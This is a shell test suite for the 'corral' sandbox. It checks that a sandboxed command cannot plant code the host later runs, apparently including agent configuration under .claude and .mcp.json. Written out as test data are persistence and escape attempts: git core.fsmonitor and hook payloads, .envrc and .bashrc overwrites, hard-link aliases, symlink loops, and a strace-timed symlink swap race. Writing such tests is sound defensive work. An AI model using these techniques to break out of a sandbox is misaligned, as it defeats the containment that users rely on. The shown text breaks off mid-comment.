t_srt_kept_binds_are_the_objects_found() {
	[ "$ME" = 0 ] || { skip "only root's supervisor opens the sources before init"; return 77; }
	command -v strace > /dev/null || { skip "no strace to hold corral with"; return 77; }
	mkdir -p "$T/proj/nested/.git" "$T/other/.git/hooks" || return 1
	echo "other's secret" > "$T/other/secret"
	touch "$T/other/.git/config" "$T/other/.git/commondir" "$T/other/.git/config.worktree"
	srt_settings
	chown -R 65534:65534 "$T/proj" "$T/other"
	cd "$T/proj" || return 1
	run_swapping_at_opens "$T/proj/nested" "$T/other" "$CORRAL" run --settings "$T/srt.json" \
		-- /bin/sh -c "cat $T/proj/nested/secret; echo pwned > $T/proj/nested/written; echo ran" ||
		return
	expect_not_contains "the other directory not read" "$(cat "$T/out")" "other's secret"
	[ ! -e "$T/other/written" ] || fail "written in the other directory: $(cat "$T/other/written")"
	# the real one bound, or the run refused: never the link's target
	grep -q ran "$T/out" || expect_contains "refused" "$(cat "$T/err")" "refused"
}

# The user's own links among what srt keeps (.envrc -> envs/dev,
# .git/hooks -> ../githooks, a .claude from dotfiles): each kept as the
# link, bound onto itself read-only, and what it names kept read-only
# where a write bind holds it (a .claude outside every bind needs
# nothing; a nested repository's .git that is a link to its directory,
# the link and that repository's hooks).  Before, none was kept: the
# sandbox removed .envrc and .git/hooks and made its own, which the
# host's direnv and next git commit ran, and wrote envs/dev and
# githooks/pre-commit through them.
# As root the project is another user's, so that its binds are idmapped
# (the supervisor's copies); as 65534 they are the user namespace's.
t_srt_keeps_a_users_link_as_the_link() {
	mkdir -p "$T/proj/.git" "$T/proj/envs" "$T/proj/githooks" "$T/dot/claude" \
		"$T/proj/nested" "$T/proj/store/n.git/hooks" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	printf '[core]\n\tbare = false\n' > "$T/proj/store/n.git/config"
	echo 'ref: refs/heads/main' > "$T/proj/store/n.git/HEAD"
	ln -s ../store/n.git "$T/proj/nested/.git"
	echo 'export A=dev' > "$T/proj/envs/dev"
	printf '#!/bin/sh\necho user-hook\n' > "$T/proj/githooks/pre-commit"
	echo '{}' > "$T/dot/claude/settings.json"
	ln -s envs/dev "$T/proj/.envrc"
	ln -s ../githooks "$T/proj/.git/hooks"
	ln -s "$T/dot/claude" "$T/proj/.claude"
	srt_settings
	chmod -R a+rwX "$T/proj" "$T/dot"
	[ "$ME" != 0 ] || chown -R -h 65534:65534 "$T/proj"
	local rc=0 w before
	before=$(cd "$T/proj" && find . | sort)
	srt_sh "
		rm .envrc && echo 'echo pwned' > .envrc && echo envrc-replaced
		mv .envrc .envrc-old && echo envrc-moved
		ln -sfn evil .envrc && echo envrc-relinked
		echo 'echo pwned' >> .envrc && echo envrc-written
		echo 'echo pwned' >> envs/dev && echo target-written
		mv envs envs-old && echo target-dir-moved
		rm .git/hooks && echo hooks-removed
		echo 'echo pwned' > githooks/pre-commit && echo hook-written
		echo 'echo pwned' > .git/hooks/post-checkout && echo hook-added
		rm .claude && echo claude-removed
		echo 'echo pwned' > nested/.git/hooks/pre-commit && echo nested-hook-written
		rm nested/.git && echo nested-link-removed
		echo mine > work && echo ran" || rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in envrc-replaced envrc-moved envrc-relinked envrc-written target-written \
		 target-dir-moved hooks-removed hook-written hook-added claude-removed \
		 nested-hook-written nested-link-removed; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	expect_eq ".envrc still the user's link" "$(readlink "$T/proj/.envrc")" envs/dev
	expect_eq ".git/hooks still the user's link" "$(readlink "$T/proj/.git/hooks")" ../githooks
	expect_eq ".claude still the user's link" "$(readlink "$T/proj/.claude")" "$T/dot/claude"
	expect_eq "what .envrc names kept" "$(cat "$T/proj/envs/dev")" 'export A=dev'
	expect_eq "the hook kept" "$(cat "$T/proj/githooks/pre-commit")" "$(printf '#!/bin/sh\necho user-hook')"
	rm -f "$T/proj/work"
	expect_eq "nothing else changed or left behind" "$(cd "$T/proj" && find . | sort)" "$before"
	expect_contains "said" "$(cat "$T/err")" ".envrc is a symbolic link to \"envs/dev\": kept as the link -> filesystem.ro \"$T/proj/.envrc\""
	expect_contains "its target said" "$(cat "$T/err")" "envs/dev -> filesystem.ro \"$T/proj/envs/dev\", as the link names it"
	expect_contains "the hooks' target said" "$(cat "$T/err")" "githooks -> filesystem.ro \"$T/proj/githooks\", as the link names it"
	expect_contains "outside said" "$(cat "$T/err")" ".claude/settings.json leads to $T/dot/claude/settings.json, outside every write bind or read-only in it"
}

# A user's link that names nothing yet (.envrc -> .envrc.local, the file
# each developer makes; a chain .mcp.json -> a -> b -> sub/m.json): kept,
# each link of the chain too, and what it would name made empty and kept
# read-only, as a kept path not there is, and removed after the run.
# Before, the sandbox made .envrc.local (and sub/m.json), which the
# host's direnv (and agent) then read through the user's link.
t_srt_keeps_a_users_dangling_link() {
	mkdir -p "$T/proj/.git" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	ln -s .envrc.local "$T/proj/.envrc"
	ln -s a "$T/proj/.mcp.json"
	ln -s b "$T/proj/a"
	ln -s sub/m.json "$T/proj/b"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 w before
	before=$(cd "$T/proj" && find . | sort)
	srt_sh "
		echo 'echo pwned' > .envrc.local && echo local-written
		echo 'echo pwned' > .envrc && echo written-through
		mkdir -p sub; echo '{\"mcpServers\": {}}' > sub/m.json && echo chain-end-written
		rm b && echo chain-link-removed
		echo mine > work && echo ran" || rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in local-written written-through chain-end-written chain-link-removed; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	rm -f "$T/proj/work"
	expect_eq "what was made is gone again" "$(cd "$T/proj" && find . | sort)" "$before"
	expect_contains "said" "$(cat "$T/err")" ".envrc is a symbolic link to \".envrc.local\": kept as the link"
	expect_contains "the chain said" "$(cat "$T/err")" "b is a symbolic link to \"sub/m.json\": kept as the link"
	expect_contains "made said" "$(cat "$T/err")" ", sub, .envrc.local"
}

# What cannot be kept refuses the run (125), naming the path and the
# link to remove if it is not the user's: one that names the write bind's own
# directory (which kept read-only would be the whole bind), one whose
# ".." follows a name not there (which the sandbox could make a link),
# and one into a write bind shown at another path.  Before, the run went
# on with the link not kept.
t_srt_link_that_cannot_be_kept_refused() {
	local rc case flags
	srt_settings
	mkdir -p "$T/other" || return 1
	chmod a+rwx "$T/other"
	for case in bind climb elsewhere; do
		rm -rf "$T/proj"
		mkdir -p "$T/proj/.git" || return 1
		flags=""
		case $case in
		bind) ln -s .. "$T/proj/.git/hooks" ;;
		climb) ln -s x/../y "$T/proj/.envrc" ;;
		elsewhere) ln -s ../other/e "$T/proj/.envrc"; flags="--rw $T/other:/data" ;;
		esac
		chmod -R a+rwX "$T/proj"
		rc=0
		# shellcheck disable=SC2086 # flags: words
		(cd "$T/proj" && timeout 60 "$CORRAL" run $flags --settings "$T/srt.json" -- \
			/bin/sh -c "echo ran > $T/proj/ran" > "$T/out" 2> "$T/err" < /dev/null) || rc=$?
		expect_eq "$case: refused" "$rc" 125
		[ ! -e "$T/proj/ran" ] || fail "$case: the command ran"
		case $case in
		bind) expect_contains "bind: named" "$(cat "$T/err")" \
			"the link's target $T/proj is a write bind's own directory, which cannot be kept read-only in it: refused"
		      expect_eq "bind: nothing left" "$(cd "$T/proj" && find . | sort | tr '\n' ' ')" \
			". ./.git ./.git/hooks " ;;
		climb) expect_contains "climb: named" "$(cat "$T/err")" \
			"the link's target $T/proj/x/../y climbs (\"..\") past $T/proj/x, in the write bind $T/proj: not kept, refused (if the link $T/proj/.envrc is not yours, an earlier run's sandbox may have left it: remove it to run again)" ;;
		elsewhere) expect_contains "elsewhere: named" "$(cat "$T/err")" \
			"the link's target $T/proj/../other/e lies in a write bind shown at another path (at $T/other), where corral cannot keep it read-only: refused"
		      [ ! -e "$T/other/e" ] || fail "elsewhere: made in the other bind" ;;
		esac
	done
}

# A loop of links at a kept path, or a chain past the kernel's 40, is
# kept as links (each bound onto itself): no path through them resolves,
# on the host either.  Refused before, a loop an earlier run's sandbox
# left in a repository it made (deep/.git/hooks -> hooks, found 3 levels
# deep as srt looks) refused every later run of the project until
# someone found and removed it.
t_srt_loop_kept_as_links() {
	mkdir -p "$T/proj/.git" || return 1
	ln -s .envrc "$T/proj/.envrc"
	ln -s a "$T/proj/.mcp.json"
	ln -s .mcp.json "$T/proj/a"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 w before
	srt_sh "
		mkdir -p deep/.git && ln -s hooks deep/.git/hooks && echo loop-left
		echo mine > work && echo ran" || rc=$?
	expect_eq "the first run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "the user's loop kept" "$(cat "$T/err")" ".envrc: more than 40 symbolic links one after the other, or a loop (at $T/proj/.envrc): each kept as the link"
	expect_contains "the sandbox left a loop" "$(cat "$T/out")" loop-left
	before=$(cd "$T/proj" && find . | sort)
	rc=0
	srt_sh "
		rm deep/.git/hooks && echo loop-removed
		ln -sfn ../../.git/hooks deep/.git/hooks && echo loop-replaced
		rm a && echo chain-link-removed
		echo ran" || rc=$?
	expect_eq "the next run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "ran" "$(cat "$T/out")" ran
	for w in loop-removed loop-replaced chain-link-removed; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	expect_contains "the sandbox's loop kept" "$(cat "$T/err")" "deep/.git/hooks: more than 40 symbolic links one after the other, or a loop (at $T/proj/deep/.git/hooks)"
	expect_eq "the loops as they were, nothing left" "$(cd "$T/proj" && find . | sort)" "$before"
}

# A kept file with a second name in the write bind (`ln envs/dev alias`:
# the user's, or an earlier run's sandbox's while nothing kept the file),
# as a link's target, as a kept path itself, and as a file in a kept
# directory (a hook): refused (125), naming it, nothing made left.
# Kept, the sandbox wrote it through the other name (the host's direnv
# then ran what it wrote, or the next commit the hook), while the
# report said it was kept read-only.  The sandbox itself can give a
# kept file no other name: link(2) from a read-only bind is EXDEV (by
# path and through /proc/self/fd), into one EROFS.
t_srt_kept_file_with_another_name_refused() {
	local rc case before
	srt_settings
	for case in target config hook; do
		rm -rf "$T/proj"
		mkdir -p "$T/proj/.git/hooks/sub" "$T/proj/envs" || return 1
		echo 'export A=dev' > "$T/proj/envs/dev"
		printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
		case $case in
		target) ln -s envs/dev "$T/proj/.envrc"; ln "$T/proj/envs/dev" "$T/proj/alias" ;;
		config) ln "$T/proj/.git/config" "$T/proj/alias" ;;
		hook) echo 'echo hook' > "$T/proj/.git/hooks/sub/pre-commit"
		      ln "$T/proj/.git/hooks/sub/pre-commit" "$T/proj/alias" ;;
		esac
		chmod -R a+rwX "$T/proj"
		before=$(cd "$T/proj" && find . | sort)
		rc=0
		(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c \
			"echo pwned >> $T/proj/alias; echo ran > $T/proj/ran" > "$T/out" 2> "$T/err" < /dev/null) ||
			rc=$?
		expect_eq "$case: refused" "$rc" 125
		[ ! -e "$T/proj/ran" ] || fail "$case: the command ran"
		expect_not_contains "$case: not written" "$(cat "$T/proj/alias")" pwned
		expect_eq "$case: nothing left" "$(cd "$T/proj" && find . | sort)" "$before"
		case $case in
		target) expect_contains "target: named" "$(cat "$T/err")" \
			"$T/proj/envs/dev has 2 hard links: the sandbox could write it through another name" ;;
		config) expect_contains "config: named" "$(cat "$T/err")" \
			"$T/proj/.git/config has 2 hard links: the sandbox could write it through another name" ;;
		hook) expect_contains "hook: named" "$(cat "$T/err")" \
			"$T/proj/.git/hooks/sub/pre-commit has 2 hard links, in $T/proj/.git/hooks, which is kept read-only: the sandbox could write it through another name: refused" ;;
		esac
	done
	rm "$T/proj/alias"
	chmod -R a+rwX "$T/proj"
	rc=0
	srt_sh "
		ln .git/config a1 && echo config-linked
		ln .git/hooks/sub/pre-commit a2 && echo hook-linked
		ln .git/hooks/sub/pre-commit .git/hooks/a3 && echo hook-linked-inside
		exec 3< .git/config; ln -L /proc/self/fd/3 a4 && echo fd-linked
		echo ran" || rc=$?
	expect_eq "one name: the run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "one name: ran" "$(cat "$T/out")" ran
	expect_not_contains "no name given by the sandbox" "$(cat "$T/out")" linked
	expect_contains "EXDEV" "$(cat "$T/err")" "Invalid cross-device link"
}

# A kept link swapped between the translation's read of it and the pin
# of its bind (another run's sandbox writes the same project): refused.
# Pinned by path alone, the new link was bound, and what it names (here
# a file of the user's) left writable.  corral is held by strace after
# its first readlinkat, the translation's read of .envrc.
t_srt_kept_link_swapped_after_the_read_refused() {
	command -v strace > /dev/null || { skip "no strace to hold corral with"; return 77; }
	mkdir -p "$T/proj/.git" "$T/proj/envs" || return 1
	echo 'export A=dev' > "$T/proj/envs/dev"
	echo 'the user file' > "$T/proj/other"
	ln -s envs/dev "$T/proj/.envrc"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local tracer st="" pid="" i rc=0
	# LeakSanitizer cannot run under ptrace: an ASan build would exit 1 at its end
	(cd "$T/proj" && ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 exec timeout 60 strace -o "$T/st" -e trace=readlinkat \
		-e inject=readlinkat:signal=SIGSTOP:when=1 "$CORRAL" run --settings "$T/srt.json" \
		-- /bin/sh -c "echo pwned > $T/proj/other; echo ran") > "$T/out" 2> "$T/err" < /dev/null &
	tracer=$!
	for i in $(seq 1 200); do
		grep -q -- '--- stopped by SIGSTOP ---' "$T/st" 2>/dev/null && break
		kill -0 "$tracer" 2>/dev/null || break
		sleep 0.05
	done
	st=$(pgrep -P "$tracer" -x strace || true)
	[ -z "$st" ] || pid=$(pgrep -P "$st" || true)
	if grep -q -- '--- stopped by SIGSTOP ---' "$T/st" 2>/dev/null && [ -n "$pid" ]; then
		expect_contains "held after reading .envrc" "$(head -1 "$T/st")" '".envrc", "envs/dev"'
		ln -sfn other "$T/proj/.envrc"
	else
		fail "corral was not held: $(head -c 600 "$T/st" 2>/dev/null)"
	fi
	for i in $pid; do kill -CONT "$i" 2>/dev/null || true; done
	wait "$tracer" || rc=$?
	expect_eq "refused" "$rc" 125
	expect_contains "said" "$(cat "$T/err")" "$T/proj/.envrc changed since the settings were read (it was a symbolic link to envs/dev): refused"
	expect_not_contains "not run" "$(cat "$T/out")" ran
	expect_eq "the user's file kept" "$(cat "$T/proj/other")" 'the user file'
}

# A repository's working directory is never a bare repository of the
# sandbox's to the host's git.  git looks for .git, then at the
# directory itself (HEAD, objects/, refs/), and .git's HEAD is git's to
# write: the sandbox moved .git/HEAD aside and made HEAD, objects, refs
# and a config (core.worktree, core.fsmonitor) at the project's top, and
# the user's next git status there ran the fsmonitor, outside any
# sandbox.  refs kept read-only (made, a file git cannot enter) stops it;
# git in the sandbox goes on as before, and nothing is left.
t_srt_top_never_a_bare_repository() {
	command -v git > /dev/null || { skip "no git"; return 77; }
	git init -q "$T/proj" || return 1
	mkdir -p "$T/proj/nested" && git init -q "$T/proj/nested" || return 1
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 d before
	before=$(cd "$T/proj" && find . | sort)
	srt_sh "
		git -c safe.directory='*' status --short > /dev/null && echo git-works
		for d in . nested; do
			(cd \$d && mv .git/HEAD .git/HEAD.old && echo \$d-head-moved
			mkdir -p objects refs/heads; echo 'ref: refs/heads/main' > HEAD
			printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = \"echo pwned > %s/pwned; false\"\n' \"\$PWD\" \"\$PWD\" > config)
		done
		echo ran" || rc=$?
	expect_eq "the run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "ran" "$(cat "$T/out")" ran
	expect_contains "git in the sandbox as before" "$(cat "$T/out")" git-works
	expect_contains "the sandbox moved HEAD aside" "$(cat "$T/out")" ".-head-moved"
	for d in "$T/proj" "$T/proj/nested"; do
		(cd "$d" && HOME=$T GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' status) \
			> /dev/null 2>&1 || true
		[ ! -e "$d/pwned" ] || fail "the sandbox's core.fsmonitor ran on the host's git status in $d"
	done
	expect_contains "said" "$(cat "$T/err")" ".git/config.worktree, refs, nested/.git/commondir, nested/.git/config.worktree, nested/refs"
	for d in . nested; do
		mv "$T/proj/$d/.git/HEAD.old" "$T/proj/$d/.git/HEAD"
		rm -rf "$T/proj/$d/HEAD" "$T/proj/$d/objects" "$T/proj/$d/config"
	done
	expect_eq "nothing left" "$(cd "$T/proj" && find . | sort)" "$before"
}

# A write path that is the caller's home directory: what else the user's
# login shell and git read there, of the kinds srt keeps (.bash_profile,
# .zprofile, .gitconfig), kept as they are.  Before, the sandbox wrote
# ~/.config/git/config (a core.fsmonitor the user's next git status ran)
# and ~/.bash_login (which bash reads at login where there is no
# .bash_profile, the one made for the run removed after it).
t_srt_keeps_what_a_home_runs() {
	command -v git > /dev/null || { skip "no git"; return 77; }
	mkdir -p "$T/home/.config" "$T/proj" || return 1
	git init -q "$T/home/repo" || return 1
	srt_settings '{"filesystem": {"allowWrite": ["~"]}}'
	chmod -R a+rwX "$T/home"
	local rc=0 w before
	before=$(cd "$T/home" && find . | sort)
	(cd "$T/proj" && HOME=$T/home timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		cd $T/home
		mkdir -p .config/git; printf '[core]\n\tfsmonitor = \"echo pwned > $T/home/pwned; false\"\n' \
			> .config/git/config && echo xdg-config-written
		echo 'echo pwned > $T/home/pwned-login' > .bash_login && echo bash-login-written
		echo 'echo pwned' > .zshenv && echo zshenv-written
		echo mine > work && echo ran") > "$T/out" 2> "$T/err" < /dev/null || rc=$?
	expect_eq "the run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in xdg-config-written bash-login-written zshenv-written; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	(cd "$T/home/repo" && HOME=$T/home GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' \
		status) > /dev/null 2>&1 || true
	HOME=$T/home timeout 30 bash -l -c true > /dev/null 2>&1 < /dev/null || true
	[ ! -e "$T/home/pwned" ] || fail "the sandbox's ~/.config/git/config ran on the host's git status"
	[ ! -e "$T/home/pwned-login" ] || fail "the sandbox's ~/.bash_login ran at the host's login"
	expect_contains "said" "$(cat "$T/err")" ".bash_login, .bash_logout, .zshenv, .zlogin, .zlogout, .config/git"
	rm -f "$T/home/work"
	expect_eq "nothing left" "$(cd "$T/home" && find . | sort)" "$before"
}

# A write path in the home that holds what it keeps (~/.config, ~/.claude),
# or one that holds the home (its parent, as "/home"), keeps it as the
# home itself does.  Before, only a write path that was the home kept
# them: with allowWrite "~/.config" the sandbox wrote ~/.config/git/config,
# whose core.fsmonitor the host's next git status ran; with "~/.claude"
# ~/.claude/settings.json and commands/; with the home's parent ~/.bashrc.
t_srt_keeps_what_a_home_runs_around_it() {
	command -v git > /dev/null || { skip "no git"; return 77; }
	local h=$T/users/me w rc before
	mkdir -p "$h/.config" "$h/.claude" "$T/proj" || return 1
	git init -q "$h/repo" || return 1
	chmod -R a+rwX "$T/users"
	# what the host's git status writes, written before the tree is taken
	(cd "$h/repo" && HOME=$h GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' \
		status) > /dev/null 2>&1 || true
	before=$(cd "$T/users" && find . | sort)
	for w in '"~/.config"' '"~/.claude"' "\"$T/users\""; do
		srt_settings "{\"filesystem\": {\"allowWrite\": [$w]}}"
		rc=0
		(cd "$T/proj" && HOME=$h timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
			cd $h; mkdir -p .config/git .claude/commands
			printf '[core]\n\tfsmonitor = \"echo pwned > $T/pwned; false\"\n' \
				> .config/git/config && echo git-config-written
			echo '{\"hooks\": {}}' > .claude/settings.json && echo claude-settings-written
			echo x > .claude/commands/x.md && echo claude-command-written
			echo 'echo pwned' >> .bashrc && echo bashrc-written
			echo ran") > "$T/out" 2> "$T/err" < /dev/null || rc=$?
		expect_eq "$w: the run goes on" "$rc" 0 || cat "$T/err"
		expect_contains "$w: ran" "$(cat "$T/out")" ran
		(cd "$h/repo" && HOME=$h GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' \
			status) > /dev/null 2>&1 || true
		[ ! -e "$T/pwned" ] || fail "$w: the sandbox's ~/.config/git/config ran on the host's git status"
		# what the sandbox wrote there would be on the host now
		expect_eq "$w: nothing written, nothing left" "$(cd "$T/users" && find . | sort)" "$before"
		rm -f "$T/pwned"
	done
}

# srt keeps its list beneath the current directory, whichever write path
# holds it: a write path in the project ("./.git", "./.claude") keeps
# what lies beneath it, one that is a kept path or lies in a kept
# directory ("./.git/hooks", "./.envrc") is read-only whole, one that
# holds the project (deeper than the 3 levels other repositories are
# looked for: ~/src/org/team/proj under "~") keeps the project's, and
# its top is never a bare repository of the sandbox's.  Before, only a
# write path's own top was looked at: with allowWrite "./.git" the
# sandbox wrote .git/hooks/pre-commit and a core.fsmonitor into
# .git/config, run by the host's next git command; with the project 4
# levels down its .envrc, .bashrc, and HEAD, objects, refs and a config
# at its top, with .git/HEAD moved aside.
t_srt_keeps_the_projects_whichever_write_path_holds_it() {
	command -v git > /dev/null || { skip "no git"; return 77; }
	local p=$T/top/a/b/c/proj w rc before
	git init -q "$p" || return 1
	mkdir -p "$p/.claude" && echo "the user's" > "$p/.envrc" || return 1
	chmod -R a+rwX "$T/top"
	(cd "$p" && GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' status) > /dev/null 2>&1 || true
	before=$(cd "$T/top" && find . | sort)
	for w in '"./.git"' '"./.claude"' '"./.git/hooks"' '"./.envrc"' "\"$T/top\""; do
		srt_settings "{\"filesystem\": {\"allowWrite\": [$w]}}"
		rc=0
		(cd "$p" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
			cd $p; echo 'echo pwned > $T/pwned-hook' > .git/hooks/pre-commit
			chmod +x .git/hooks/pre-commit
			git config --file .git/config core.fsmonitor 'echo pwned > $T/pwned; false'
			echo '{\"hooks\": {}}' > .claude/settings.json
			echo 'echo pwned' >> .envrc; echo 'echo pwned' > .bashrc
			touch .git/probe && rm .git/probe && echo git-writable
			mv .git/HEAD .git/HEAD.old; mkdir -p objects refs/heads
			echo 'ref: refs/heads/main' > HEAD
			printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = %s\n\tfsmonitor = \"echo pwned > $T/pwned; false\"\n' \
				$p > config
			echo ran") > "$T/out" 2> "$T/err" < /dev/null || rc=$?
		expect_eq "$w: the run goes on" "$rc" 0 || cat "$T/err"
		expect_contains "$w: ran" "$(cat "$T/out")" ran
		case $w in '"./.git"'|"\"$T/top\"")
			expect_contains "$w: git writes its own directory" "$(cat "$T/out")" git-writable ;;
		esac
		(cd "$p" && GIT_CONFIG_NOSYSTEM=1 timeout 30 git -c safe.directory='*' status) \
			> /dev/null 2>&1 || true
		[ ! -e "$T/pwned" ] || fail "$w: the sandbox's core.fsmonitor ran on the host's git status"
		expect_eq "$w: the user's .envrc" "$(cat "$p/.envrc")" "the user's"
		# git's to write: HEAD moved aside, put back
		[ ! -e "$p/.git/HEAD.old" ] || mv "$p/.git/HEAD.old" "$p/.git/HEAD"
		rm -rf "$p/HEAD" "$p/objects" "$p/config"
		# what the sandbox wrote there would be on the host now
		expect_eq "$w: nothing written, nothing left" "$(cd "$T/top" && find . | sort)" "$before"
	done
}

# A kept path that cannot be kept (not made: a file system full, which a
# sandbox may fill; a directory of the user's of mode 0555 on its way,
# which the sandbox may chmod back) refuses the run.  Before, the run
# went on with "not kept read-only" said, and its sandbox freed the
# space, or chmodded the directory, and made .envrc, or
# .claude/commands/x.md, which the host's direnv, or agent, runs.
t_srt_kept_path_not_kept_refused() {
	mkdir -p "$T/proj/.git/hooks" || return 1
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0
	if [ "$(id -u)" = 0 ]; then
		# a mount namespace of the test's own: the tmpfs goes with it
		# shellcheck disable=SC2016 # $1 and $2 are that shell's
		unshare -m --propagation private /bin/sh -c '
			mount -t tmpfs -o size=1m,nr_inodes=40,mode=777 none "$1/proj" && cd "$1/proj" &&
			mkdir -p .git/hooks || exit 1
			i=0; while [ $i -lt 100 ] && touch fill$i 2> /dev/null; do i=$((i + 1)); done
			timeout 60 "$2" run --settings "$1/srt.json" -- /bin/sh -c "cd $1/proj; rm -f fill*
				echo pwned > .envrc && echo envrc-written" > "$1/out" 2> "$1/err" < /dev/null
			echo $? > "$1/rc"; ls -a > "$1/after"' sh "$T" "$CORRAL" || rc=$?
		expect_eq "the test's namespace ran" "$rc" 0
		expect_not_contains "kept" "$(cat "$T/after")" .envrc
	else
		mkdir -m 555 "$T/proj/.claude" || return 1
		(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
			cd $T/proj; chmod u+w .claude; mkdir -p .claude/commands
			echo pwned > .claude/commands/x.md && echo command-written") \
			> "$T/out" 2> "$T/err" < /dev/null || rc=$?
		echo "$rc" > "$T/rc"
		chmod u+w "$T/proj/.claude"
		[ ! -e "$T/proj/.claude/commands/x.md" ] || fail "the sandbox made .claude/commands/x.md"
	fi
	expect_eq "refused" "$(cat "$T/rc")" 125
	expect_contains "said" "$(cat "$T/err")" "cannot be kept read-only"
	expect_not_contains "nothing written" "$(cat "$T/out")" written
}

# A run killed alone while another run holds some of what it made (the
# other's settings keep less: "." and not "~"): its janitor removes each
# as no run holds it, one at a time, and holds none while it waits.
# Before, it held those it had until the other ended, and a third run
# of "~" found ~/.bashrc and the rest "another run kept removing it":
# not kept read-only, and its sandbox wrote ~/.bashrc.
t_srt_janitor_holds_none_while_it_waits() {
	local h=$T/home a b i before wait_for
	mkdir -p "$T/proj/.git/hooks" "$T/proj/sig" "$h" || return 1
	chmod -R a+rwX "$T/proj" "$h"
	before=$(cd "$T" && find proj home | grep -v '^proj/sig' | sort)
	printf '{"filesystem": {"allowWrite": [".", "~"]}}\n' > "$T/a.json"
	printf '{"filesystem": {"allowWrite": ["."]}}\n' > "$T/b.json"
	printf '{"filesystem": {"allowWrite": ["~"]}}\n' > "$T/c.json"
	chmod a+rX "$T" "$T"/*.json
	# shellcheck disable=SC2016 # expanded there, not here
	wait_for='w() { i=0; while [ ! -e "$1" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i + 1)); done; }'
	# not under timeout: the pid killed is corral's
	(cd "$T/proj" && HOME=$h exec "$CORRAL" run --settings "$T/a.json" -- /bin/sh -c "
		$wait_for; touch $T/proj/sig/a-in; w $T/proj/sig/never" > "$T/out.a" 2> "$T/err.a" < /dev/null) &
	a=$!
	# shellcheck disable=SC2064 # this run's pid, now
	trap "kill $a 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/a-in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/a-in" ] || { fail "the first run did not start: $(cat "$T/err.a")"; return; }
	(cd "$T/proj" && HOME=$h exec timeout 60 "$CORRAL" run --settings "$T/b.json" -- /bin/sh -c "
		$wait_for; touch $T/proj/sig/b-in; w $T/proj/sig/b-go" > "$T/out.b" 2> "$T/err.b" < /dev/null) &
	b=$!
	# shellcheck disable=SC2064 # both runs' pids, now
	trap "kill $a $b 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/b-in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/b-in" ] || { fail "the second run did not start: $(cat "$T/err.b")"; return; }
	[ -e "$h/.bashrc" ] || { fail "nothing made in the home: the test tests nothing"; return; }
	kill -KILL "$a"
	wait "$a" 2>/dev/null || true
	# bounded: the first's sandbox's end, then its janitor's work in the home
	for i in $(seq 1 200); do [ -e "$h/.bashrc" ] || break; sleep 0.05; done
	(cd "$T/proj" && HOME=$h timeout 60 "$CORRAL" run --settings "$T/c.json" -- /bin/sh -c "
		cd $h; rm -f .bashrc; echo 'echo pwned' > .bashrc && echo bashrc-written; echo ran") \
		> "$T/out.c" 2> "$T/err.c" < /dev/null || fail "the third run: $(cat "$T/err.c")"
	touch "$T/proj/sig/b-go"
	wait "$b" || fail "the second run: $?"
	expect_contains "the third ran" "$(cat "$T/out.c")" ran
	expect_not_contains "the home's .bashrc kept" "$(cat "$T/out.c")" bashrc-written
	expect_not_contains "each kept" "$(cat "$T/err.c")" "another run kept removing it"
	# and all removed once the second ended: by it, and the janitor
	for i in $(seq 1 200); do
		[ "$(cd "$T" && find proj home | grep -v '^proj/sig' | sort)" = "$before" ] && break
		sleep 0.05
	done
	expect_eq "nothing left" "$(cd "$T" && find proj home | grep -v '^proj/sig' | sort)" "$before"
}

# children PID: its children's pids
# children PID: PID's children; a pid just listed may have exited since
# (the supervisor's short-lived helpers), which is no children, not an error
children() { cat /proc/"$1"/task/*/children 2>/dev/null || true; }

# A sandbox's init is a fork of its supervisor, and never execs: it must
# hold none of the supervisor's credentials (the secrets' values from a
# file and from the environment, and the rest of that environment), read
# or not.  Scanned from the host, while the sandbox waits; the supervisor
# is scanned first, to show the scan finds them where they are.
t_init_holds_no_credentials() {
	[ "$ME" = 0 ] || { skip "reading another process's memory needs root"; return; }
	local scan sup init="" agent="" i v s hex marker envsecret filesecret
	scan=$(memscan_find)
	[ -n "$scan" ] || { fail "no memscan helper beside $CORRAL"; return; }
	# long and random: a freed copy keeps all but its first bytes, so the
	# scans look for each one's tail
